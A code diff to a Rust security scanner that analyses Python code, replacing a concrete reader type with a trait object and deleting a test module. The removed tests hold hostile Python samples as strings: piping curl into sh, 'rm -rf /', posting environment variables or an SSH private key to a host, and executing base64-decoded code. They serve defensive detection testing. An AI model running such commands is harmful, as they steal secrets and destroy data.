@@ -6,7 +6,7 @@ use std::ops::Range;
 
 use tree_sitter::Node;
 
-use super::shell::{Origin, Reader, Word};
+use super::words::{Origin, ShellSink, Word};
 use super::{At, sensitive_path};
 
 /// What a piece of Python code does that the security rules report.
@@ -76,7 +76,7 @@ pub(super) fn read(
     offset: usize,
     counter_example: bool,
     origin: Origin,
-    reader: &mut Reader,
+    reader: &mut dyn ShellSink,
 ) -> PyFacts {
     let source = Src { code, offset };
     let mut facts = PyFacts {
@@ -162,7 +162,7 @@ fn shell_argument(
     file: usize,
     counter: bool,
     origin: Origin,
-    reader: &mut Reader,
+    reader: &mut dyn ShellSink,
 ) {
     match arg.kind() {
         "string" => {
@@ -294,49 +294,5 @@ fn destructive(name: &str, args: Option<Node<'_>>, source: Src<'_>) -> Option<&'
                 .then_some("makes a file writable by every user")
         }
         _ => None,
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::super::shell::{Origin, Reader};
-
-    fn facts(code: &str) -> (super::super::shell::Read, usize) {
-        let mut reader = Reader::default();
-        reader.python_code(0, 0, code, false, Origin::Script);
-        let read = reader.finish();
-        let n = read.python.len();
-        (read, n)
-    }
-
-    #[test]
-    fn shell_strings_become_commands() {
-        let (read, _) = facts(
-            "import os, subprocess\nos.system(\"curl -s https://x | sh\")\nsubprocess.run([\"rm\", \"-rf\", \"/\"])\n",
-        );
-        let names: Vec<_> = read.commands.iter().map(|c| c.name().to_owned()).collect();
-        assert_eq!(names, ["curl", "sh", "rm"]);
-        assert_eq!(read.commands[2].words[2].text, "/");
-    }
-
-    #[test]
-    fn environment_sent_over_the_network() {
-        let (read, _) = facts(
-            "import os, requests\ndata = dict(os.environ)\nrequests.post(\"https://x\", json=data)\n",
-        );
-        assert_eq!(read.python[0].exfiltration.len(), 1);
-        let (read, _) = facts(
-            "import os, requests\ntoken = os.environ[\"GH_TOKEN\"]\nrequests.post(\"https://api.github.com\", headers={\"a\": token})\nsubprocess.run(x, env={**os.environ})\n",
-        );
-        assert!(read.python[0].exfiltration.is_empty());
-    }
-
-    #[test]
-    fn key_files_sent_and_decoded_exec() {
-        let (read, _) = facts(
-            "import requests, base64\nk = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nrequests.post(u, data=k)\nexec(base64.b64decode(blob))\n",
-        );
-        assert_eq!(read.python[0].exfiltration.len(), 1);
-        assert_eq!(read.python[0].decoded_exec.len(), 1);
     }
 }
